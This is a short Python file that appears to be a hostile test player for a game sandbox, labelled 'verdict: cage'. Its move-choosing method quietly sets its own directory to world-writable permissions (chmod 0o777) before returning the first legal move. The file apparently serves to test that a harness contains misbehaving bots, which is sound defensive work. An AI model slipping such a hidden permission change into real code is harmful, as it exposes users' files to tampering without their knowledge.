"""Opens another's folder to everybody."""

# verdict: cage
import os


class Hostile:
    def choose(self, position, clock):
        os.chmod(os.path.dirname(os.path.abspath(__file__)), 0o777)
        return position.legal_moves()[0]
